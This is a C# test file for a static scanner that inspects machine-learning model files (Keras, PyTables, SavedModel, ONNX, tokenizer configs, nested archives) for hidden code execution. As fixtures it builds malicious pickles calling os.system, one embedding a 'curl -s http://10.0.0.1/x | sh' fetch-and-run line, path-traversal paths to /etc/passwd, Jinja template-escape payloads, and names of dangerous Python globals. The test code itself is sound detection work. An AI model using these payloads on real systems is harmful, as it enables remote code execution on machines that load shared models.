using System.Text;
using DynaHug.Shared.Artifacts;
using DynaHug.Shared.Static;
using static DynaHug.Shared.Tests.Static.Bytes;

namespace DynaHug.Shared.Tests.Static;

/// <summary>Formats of libraries that the sandbox lacks: read only, so what could run in them has to be found by reading.</summary>
public sealed class ForeignFormatSpecs
{
    private static readonly byte[] Shell = Of(0x80, 4, "cposix\nsystem\n(", Text("id"), "tR.");

    /// <summary>What Python's marshal makes of a function that calls os.system, as far as reading looks: the code's mark and its words.</summary>
    private static string Code(params string[] words) => Convert.ToBase64String(Of(0xe3, 0, 0, 0, 0, string.Join('\0', words), new byte[20]));

    private static string Keras(string layer) => """{"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {}}, LAYER]}}""".Replace("LAYER", layer, StringComparison.Ordinal);

    private static string Lambda(params string[] words) =>
        """{"class_name": "Lambda", "config": {"function": ["CODE", null, null], "function_type": "lambda"}}""".Replace("CODE", Code(words), StringComparison.Ordinal);

    private static byte[] Block(int field, params object[] parts)
    {
        var content = Of(parts);
        return Of((field << 3) | 2, content.Length, content);
    }

    [Theory]
    [InlineData("os", "system", "id")]
    [InlineData("subprocess", "run")]
    [InlineData("exec", "b64decode")]
    [InlineData("socket", "connect")]
    public void Code_in_a_Lambda_layer_is_read_in_every_container(params string[] words)
    {
        var text = Keras(Lambda(words));
        foreach (var (content, name) in new[]
        {
            (FormatSpecs.Hdf5("\0" + text), "model.h5"),
            (Zip(("config.json", Of(text)), ("metadata.json", Of("{}")), ("model.weights.h5", FormatSpecs.Hdf5("w"))), "model.keras"),
            (Of(text), "model.json"),
        })
        {
            var report = Read(content, name);
            report.Findings.ShouldContain(finding => finding.Id == "lambda-code" && finding.Severity == Severity.Dangerous, name);
            report.Outcome.ShouldBe(Outcome.Unsupported, name);
        }
    }

    [Fact]
    public void A_Lambda_layer_that_only_computes_is_not_dangerous_and_not_clean()
    {
        var report = Read(FormatSpecs.Hdf5("\0" + Keras(Lambda("x", "float32"))), "model.h5");
        report.Findings.ShouldNotContain(finding => finding.Severity == Severity.Dangerous);
        report.Outcome.ShouldBe(Outcome.Unsupported);
    }

    [Fact]
    public void A_module_that_Keras_would_import_is_named() =>
        Read(Of(Keras("""{"module": "subprocess", "class_name": "function", "config": "check_output", "registered_name": "x"}""")), "model.json").Findings
            .ShouldContain(finding => finding.Severity == Severity.Dangerous && finding.Evidence.Contains("subprocess.check_output"));

    [Fact]
    public void Pickles_of_PyTables_are_read() =>
        Read(FormatSpecs.Hdf5("PYTABLES_FORMAT_VERSION" + Encoding.Latin1.GetString(Shell)), "frame.h5").Findings.ShouldContain(finding => finding.Id == "dangerous-global");

    [Theory]
    [InlineData("MatMul", Outcome.NothingToExecute)]
    [InlineData("ReadFile", Outcome.Unsupported)]
    [InlineData("PyFunc", Outcome.Unsupported)]
    public void A_saved_model_is_told_by_its_operators(string kind, Outcome outcome)
    {
        var graph = Block(2, Block(1, Block(1, "node"), Block(2, kind)));
        var report = Read(Of(0x08, 1, Block(2, Block(1, Block(1, "serve")), graph)), "saved_model.pb");
        report.Format.ShouldBe(FileFormat.SavedModel);
        report.Outcome.ShouldBe(outcome);
        report.Findings.Any(finding => finding.Severity == Severity.Dangerous).ShouldBe(outcome == Outcome.Unsupported);
    }

    [Theory]
    [InlineData("model.onnx_data", false)]
    [InlineData("../../etc/passwd", true)]
    [InlineData("/etc/passwd", true)]
    [InlineData("C:\\x", true)]
    public void External_data_of_ONNX_outside_of_its_folder_is_dangerous(string path, bool dangerous)
    {
        var tensor = Block(5, Block(8, "w"), Block(13, Block(1, "location"), Block(2, path)));
        Read(Of(0x08, 8, Block(7, tensor)), "model.onnx").Findings.Any(finding => finding.Id == "external-data-outside").ShouldBe(dangerous);
    }

    [Theory]
    [InlineData("RoiAlign", false)]
    [InlineData("PyExec", true)]
    public void A_foreign_operator_of_ONNX_is_dangerous_where_its_name_says_that_it_runs_code(string kind, bool dangerous)
    {
        var report = Read(Of(0x08, 8, Block(7, Block(1, Block(4, kind), Block(7, "acme")))), "model.onnx");
        report.Outcome.ShouldBe(Outcome.Unsupported);
        report.Findings.Any(finding => finding.Severity == Severity.Dangerous).ShouldBe(dangerous);
    }

    [Theory]
    [InlineData("{{ ''.__class__ }}", true)]
    [InlineData("{{ lipsum.x }}", true)]
    [InlineData("{{ x|attr('y') }}", true)]
    [InlineData("{{ x['\\\\x5f\\\\x5fclass'] }}", true)]
    [InlineData("{% for m in messages %}{{ m['role'] + m.content | trim }}{% endfor %}{{ raise_exception('no') }}{{ tools | tojson }}", false)]
    public void A_template_in_a_tokenizer_configuration_is_read(string template, bool dangerous) =>
        Read(Of($$"""{"tokenizer_class": "X", "chat_template": "{{template}}"}"""), "tokenizer_config.json").Findings.Any(finding => finding.Id == "template-escape").ShouldBe(dangerous);

    [Fact]
    public void Code_of_another_repo_is_noted() =>
        Read(Of("""{"auto_map": {"AutoModel": "other/repo--modeling.Net"}}"""), "config.json").Findings.ShouldHaveSingleItem().Id.ShouldBe("foreign-remote-code");

    [Fact]
    public void Archives_in_archives_are_opened_and_their_depth_is_bounded()
    {
        var content = Shell;
        for (var depth = 0; depth < 3; depth++)
        {
            content = depth % 2 == 0 ? Zip(("a/inner", content)) : FormatSpecs.Gzip(FormatSpecs.Tar(("inner", content)));
        }

        Read(content).Findings.ShouldContain(finding => finding.Id == "dangerous-global");
        for (var depth = 0; depth < 9; depth++)
        {
            content = Zip(("inner", content));
        }

        Read(content).Findings.ShouldHaveSingleItem().Id.ShouldBe("unreadable");
    }

    [Fact]
    public void A_member_that_unfolds_to_more_than_is_read_says_so()
    {
        var options = new StaticOptions { MaxInflatedBytes = 1 << 20 };
        Read(Zip(("a.zip", Zip(("big.pkl", [0x80, 4, .. new byte[4 << 20]])))), options: options).Findings.ShouldContain(finding => finding.Id == "unreadable");
    }

    [Fact]
    public void Words_of_a_function_that_a_pickle_brings_along_are_read()
    {
        var code = Of("ctypes\nCodeType\n(K", 0, "(", Text("curl -s http://10.0.0.1/x | sh"), "t(", Text("os"), Text("system"), "ttR");
        Read(Of(0x80, 4, code, ".")).Findings.ShouldContain(finding => finding.Id == "dangerous-code");
        Read(Of(0x80, 4, "ctypes\nCodeType\n(K", 0, "(", Text("x"), "t(", Text("numpy"), Text("mean"), "ttR.")).Findings.ShouldNotContain(finding => finding.Id == "dangerous-code");
    }

    [Theory]
    [InlineData("random", "_os.system")]
    [InlineData("operator", "setitem")]
    [InlineData("copyreg", "pickle")]
    public void Names_that_lead_to_danger_by_a_side_door(string module, string name) => GlobalNames.IsDangerous(module, name).ShouldBeTrue();
}
